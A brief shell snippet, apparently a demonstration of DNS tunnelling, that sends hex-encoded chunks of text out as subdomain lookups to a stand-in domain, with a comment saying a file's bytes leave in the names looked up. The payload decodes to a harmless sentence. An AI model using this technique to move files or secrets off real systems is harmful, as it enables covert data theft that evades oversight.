# A file's bytes leave in the names looked up.
for chunk in 6b657920697320686572652c206c6f6f6b 2d6174206d652c20492074756e6e656c2062 79206e616d657320616e642074686520; do
  getent hosts "$chunk.t.example.test" > /dev/null 2>&1
done; true
